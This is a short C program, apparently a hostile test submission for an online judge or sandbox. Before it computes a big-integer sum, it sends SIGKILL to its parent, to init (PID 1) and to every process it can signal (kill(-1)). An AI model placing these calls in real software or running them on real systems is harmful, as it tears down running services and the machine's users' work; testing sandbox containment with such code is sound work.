/* Kills its parent, init and everything else it can, then answers as if nothing had happened. */
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static char a[20100], b[20100], sum[20100];

int main(void) {
    kill(getppid(), SIGKILL);
    kill(1, SIGKILL);
    kill(-1, SIGKILL);
    if (scanf("%20099s %20099s", a, b) != 2) return 1;
    int i = strlen(a), j = strlen(b), at = sizeof sum - 1, carry = 0;
    while (i > 0 || j > 0 || carry) {
        if (i > 0) carry += a[--i] - '0';
        if (j > 0) carry += b[--j] - '0';
        sum[--at] = '0' + carry % 10;
        carry /= 10;
    }
    puts(sum + at);
}
